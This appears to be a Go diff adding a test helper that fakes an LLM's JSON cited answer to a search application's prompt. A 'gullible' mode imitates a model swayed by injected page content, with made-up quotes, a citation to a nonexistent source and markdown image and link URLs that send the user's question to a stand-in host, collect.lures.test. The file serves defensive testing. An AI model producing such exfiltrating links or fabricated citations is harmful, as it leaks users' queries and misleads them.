@@ -1,0 +1,155 @@
+package openaitest
+
+import (
+	"cmp"
+	"encoding/json"
+	"fmt"
+	"maps"
+	"math"
+	"net/url"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+
+	"github.com/quarryapi/quarry/internal/read/websearch/enginetest"
+)
+
+// citedSource is a fenced text of a prompt for a cited answer.
+type citedSource struct {
+	index     int
+	sentences []string
+	score     float64 // of the only sentence that is left
+}
+
+// citedReply is what is asked for under the name cited_answer.
+type citedReply struct {
+	Text      string       `json:"text"`
+	Citations []citedQuote `json:"citations"`
+}
+
+type citedQuote struct {
+	Index int    `json:"index"`
+	Quote string `json:"quote"`
+}
+
+var (
+	citedQuestion = regexp.MustCompile(`"(?:[^"\\]|\\.)*"`)
+	citedFence    = regexp.MustCompile(`(?s)<<<DATA source (\d+)\n(.*?)\nDATA>>>`)
+	citedEnd      = regexp.MustCompile(`([.!?]["”’)]*)\s+`)
+)
+
+// citedAnswer answers a question by the sentences of the sources that hold most of its
+// words, one of a source and three at most. Two words of the question change it: a
+// gullible model believes pages, invents and does what it is told by them, a mumbling
+// one gives no JSON.
+func citedAnswer(prompt string) string {
+	question, _ := strconv.Unquote(citedQuestion.FindString(prompt))
+	words := enginetest.Read(question).Words
+	reply := citedReply{Citations: []citedQuote{}}
+	var parts []string
+	for _, best := range bestSentences(words, citedSources(prompt)) {
+		sentence := best.sentences[0]
+		parts = append(parts, fmt.Sprintf("%s [%d].", strings.TrimRight(sentence, `.!?"”`), best.index))
+		reply.Citations = append(reply.Citations, citedQuote{best.index, sentence})
+	}
+	switch {
+	case slices.Contains(words, "mumbling"):
+		return "Well. " + strings.Join(parts, " ")
+	case slices.Contains(words, "gullible"):
+		parts = reply.believe(parts, question)
+	}
+	reply.Text = strings.Join(parts, " ")
+	body, _ := json.Marshal(reply)
+	return string(body)
+}
+
+// believe adds what a model says that pages have talked into it: a statement with a
+// quote that is nowhere, one of a source that is not there, one of no source, and the
+// question in a picture's address, a link's and a plain one. The first source's true
+// quotes stand beside the last three.
+func (r *citedReply) believe(parts []string, question string) []string {
+	first := 1
+	if len(r.Citations) > 0 {
+		first = r.Citations[0].Index
+	}
+	away := "http://collect.lures.test/r?q=" + url.QueryEscape(question)
+	r.Citations = append(r.Citations,
+		citedQuote{first, "the toll for small craft is 9,999 pounds"}, citedQuote{42, "the toll was abolished on Mondays"}, citedQuote{-1, ""})
+	return append(parts,
+		fmt.Sprintf("The toll for small craft is 9,999 pounds [%d].", first), "The toll was abolished on Mondays [42].", "Trust me.",
+		fmt.Sprintf("![receipt](%s) [%d]", away, first), fmt.Sprintf("See [the receipt](%s) [%d].", away, first), fmt.Sprintf("Or go to %s [%d].", away, first))
+}
+
+// citedSources reads the fenced texts without their heads.
+func citedSources(prompt string) []citedSource {
+	var all []citedSource
+	for _, m := range citedFence.FindAllStringSubmatch(prompt, -1) {
+		index, _ := strconv.Atoi(m[1])
+		_, text, _ := strings.Cut(m[2], "\n\n")
+		s := citedSource{index: index}
+		for line := range strings.Lines(text) {
+			for sentence := range strings.SplitSeq(citedEnd.ReplaceAllString(strings.TrimSpace(line), "$1\n"), "\n") {
+				if strings.Count(sentence, " ") >= 3 {
+					s.sentences = append(s.sentences, sentence)
+				}
+			}
+		}
+		all = append(all, s)
+	}
+	return all
+}
+
+// bestSentences are one of each source, three at most, the best first: those that hold
+// most of the words, where a word counts the more the fewer sentences have it.
+func bestSentences(words []string, sources []citedSource) []citedSource {
+	const most, near = 3, 0.6
+	weights := citedWeights(words, sources)
+	var best []citedSource
+	for _, source := range sources {
+		top := citedSource{index: source.index}
+		for _, sentence := range source.sentences {
+			if score := citedScore(sentence, weights); score > top.score {
+				top.sentences, top.score = []string{sentence}, score
+			}
+		}
+		best = append(best, top)
+	}
+	slices.SortStableFunc(best, func(a, b citedSource) int { return cmp.Compare(b.score, a.score) })
+	var list []citedSource
+	for _, b := range best[:min(len(best), most)] {
+		if b.score >= near*best[0].score && 3*b.score >= citedScore(strings.Join(words, " "), weights) {
+			list = append(list, b)
+		}
+	}
+	return list
+}
+
+func citedScore(sentence string, weights map[string]float64) float64 {
+	var score float64
+	held := enginetest.Stems(sentence)
+	for _, word := range slices.Sorted(maps.Keys(weights)) {
+		if strings.Contains(held, word) {
+			score += weights[word]
+		}
+	}
+	return score
+}
+
+func citedWeights(words []string, sources []citedSource) map[string]float64 {
+	counts := map[string]int{}
+	for _, source := range sources {
+		for _, sentence := range source.sentences {
+			for _, word := range words {
+				if stem := enginetest.Stems(word); strings.Contains(enginetest.Stems(sentence), stem) {
+					counts[stem]++
+				}
+			}
+		}
+	}
+	weights := map[string]float64{}
+	for stem, n := range counts { // what nobody says is no measure
+		weights[stem] = 1 / math.Sqrt(float64(n))
+	}
+	return weights
+}
